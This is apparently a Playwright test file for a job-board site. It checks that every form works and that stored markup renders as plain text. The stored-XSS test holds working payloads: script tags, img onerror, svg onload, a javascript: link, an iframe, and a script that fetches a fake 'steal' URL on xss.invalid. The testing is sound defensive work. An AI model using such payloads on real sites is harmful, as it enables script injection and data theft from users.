// Browser-facing security, proven in Chromium (docs/security.md). Every test here also runs under
// the fixture in support/test.ts, which fails on any CSP violation, uncaught error or console error.
import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import { createAccount, PASSWORD, signInThroughUi, uniqueEmail } from './support/accounts';
import { expect, test } from './support/test';

/** React attaches its fiber to DOM nodes when it hydrates them: present means the page is live. */
async function expectHydrated(page: Page) {
  await expect
    .poll(() => page.evaluate(() => Object.keys(document.querySelector('main') ?? {}).some((key) => key.startsWith('__reactFiber'))), { message: `${page.url()} hydrated` })
    .toBe(true);
}

test('every page hydrates and every form works: sign-up, sign-out, sign-in, apply, post, edit, close', async ({ page }) => {
  const marker = randomUUID().slice(0, 8);
  const employerEmail = uniqueEmail('forms-employer');
  const title = `Form Walker ${marker}`;
  // Employer: sign up (form), post (form), edit (form), close (button), sign out.
  await page.goto('/sign-up');
  await expectHydrated(page);
  await page.getByLabel('Hiring').check();
  await page.getByLabel('Your name').fill('Form Employer');
  await page.getByLabel('Company name').fill(`Forms ${marker} Ltd`);
  await page.getByLabel('Email').fill(employerEmail);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Create account' }).click();
  await expect(page.getByRole('heading', { name: 'Your jobs' })).toBeVisible();
  await expectHydrated(page);
  await page.getByRole('link', { name: 'Post a job' }).click();
  await expect(page).toHaveURL(/\/employer\/jobs\/new$/);
  await expectHydrated(page);
  await page.getByLabel('Title').fill(title);
  await page.getByLabel('Description').fill('Walk through every form of the board and check that each one works under the policy.');
  await page.getByLabel('Location').fill('Porto, Portugal');
  await page.getByLabel('Employment type').selectOption('full_time');
  await page.getByRole('button', { name: 'Post job' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
  await expectHydrated(page);
  const manageUrl = page.url();
  await page.getByLabel('Title').fill(`${title} (edited)`);
  await page.getByRole('button', { name: 'Save changes' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(`${title} (edited)`);
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('link', { name: 'Sign in' })).toBeVisible();

  // Candidate: sign up (form), sign out, sign in (form), browse, apply (form), see it.
  await page.goto('/sign-up');
  await page.getByLabel('Your name').fill('Form Candidate');
  const email = uniqueEmail('forms-candidate');
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Create account' }).click();
  await expect(page.getByTestId('signed-in-as')).toHaveText('Form Candidate');
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('link', { name: 'Sign in' })).toBeVisible();
  await page.goto('/sign-in');
  await expectHydrated(page);
  await signInThroughUi(page, email);
  await expect(page.getByTestId('signed-in-as')).toHaveText('Form Candidate');
  await page.goto(`/?q=${encodeURIComponent(marker)}`);
  await expectHydrated(page);
  await page.getByRole('link', { name: `${title} (edited)` }).click();
  await expectHydrated(page);
  await page.getByLabel('Cover letter').fill('I read every form on this board and would like to keep them working for you.');
  await page.getByRole('button', { name: 'Apply' }).click();
  await expect(page.getByText('Application sent.')).toBeVisible();
  await page.goto('/me/applications');
  await expectHydrated(page);
  await expect(page.getByText(`${title} (edited)`)).toBeVisible();
  await page.goto('/no-such-page');
  await expectHydrated(page);

  // The employer signs back in (form) and closes the job.
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('link', { name: 'Sign in' })).toBeVisible();
  await page.goto('/sign-in');
  await signInThroughUi(page, employerEmail);
  await expect(page.getByRole('heading', { name: 'Your jobs' })).toBeVisible();
  await page.goto(manageUrl);
  await expectHydrated(page);
  await expect(page.getByTestId('job-applicants').getByRole('listitem')).toHaveCount(1);
  await page.getByRole('button', { name: 'Close job' }).click();
  await expect(page.getByText('Status: closed')).toBeVisible();
});

test('stored XSS: markup in a job and an application is shown as text on every page; nothing runs, nothing is fetched', async ({ page, request, browser }) => {
  const marker = randomUUID().slice(0, 8);
  const PAYLOADS = {
    title: `<script>window.__xss='title'</script> ${marker}`,
    description: `<img src="https://xss.invalid/img-${marker}" onerror="window.__xss='img'"> and <a href="javascript:window.__xss='link'">click me</a> and <svg onload="window.__xss='svg'"></svg> ${marker}`,
    coverLetter: `<iframe src="javascript:alert('cover')"></iframe><script>fetch('https://xss.invalid/steal-${marker}')</script> I would like this job and I am writing enough to pass validation.`,
  };
  const problems: string[] = [];
  const watch = (target: Page) => {
    target.on('dialog', (dialog) => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    target.on('request', (req) => {
      if (req.url().includes('xss.invalid') || req.url().startsWith('javascript:')) problems.push(`request: ${req.url()}`);
    });
  };
  watch(page);

  // The employer posts the job through the API (as a script would), the candidate applies the same way.
  const employerEmail = uniqueEmail('xss-employer');
  expect((await request.post('/api/auth/sign-up/email', { data: { name: 'XSS Employer', email: employerEmail, password: PASSWORD, role: 'employer' } })).ok()).toBe(true);
  const jobBody = { title: PAYLOADS.title, description: PAYLOADS.description, location: 'Nowhere <u>', remote: true, employmentType: 'contract' };
  // Tags are letters, digits and . + # - only: markup there is refused at the boundary.
  expect((await request.post('/api/jobs', { data: { ...jobBody, tags: ['<b onmouseover=alert(1)>t</b>'] } })).status()).toBe(400);
  const job = await request.post('/api/jobs', { data: { ...jobBody, tags: ['security'] } });
  expect(job.status()).toBe(201);
  const jobId = (await job.json()).job.id as string;
  const candidateContext = await browser.newContext();
  const candidate = await createAccount(candidateContext.request, 'candidate', `XSS <i>Candidate</i> ${marker}`);
  expect((await candidateContext.request.post('/api/auth/sign-in/email', { data: { email: candidate.email, password: PASSWORD } })).ok()).toBe(true);
  expect((await candidateContext.request.post(`/api/jobs/${jobId}/applications`, { data: { coverLetter: PAYLOADS.coverLetter } })).status()).toBe(201);

  const expectInert = async (target: Page) => {
    expect(await target.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
  };
  // Anonymous visitor: the list and the job page.
  await page.goto(`/?q=${marker}`);
  await expect(page.getByTestId('job-list')).toContainText(PAYLOADS.title);
  await expectInert(page);
  await page.goto(`/jobs/${jobId}`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(PAYLOADS.title);
  await expect(page.getByText('click me', { exact: false })).toBeVisible();
  await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expectInert(page);

  // The employer: dashboard and the job's page with the applicant's cover letter.
  await page.goto('/sign-in');
  await page.getByLabel('Email').fill(employerEmail);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByTestId('employer-jobs')).toContainText(PAYLOADS.title);
  await expectInert(page);
  await page.goto(`/employer/jobs/${jobId}`);
  await expect(page.getByTestId('job-applicants')).toContainText('I would like this job');
  await expect(page.getByTestId('job-applicants')).toContainText('<script>');
  await expect(page.locator('iframe')).toHaveCount(0);
  await expectInert(page);

  // The candidate's own list.
  const candidatePage = await candidateContext.newPage();
  watch(candidatePage);
  await candidatePage.goto('/me/applications');
  await expect(candidatePage.getByText(PAYLOADS.title)).toBeVisible();
  await expectInert(candidatePage);
  await candidateContext.close();

  expect(problems, 'dialogs opened or requests to injected URLs').toEqual([]);
});
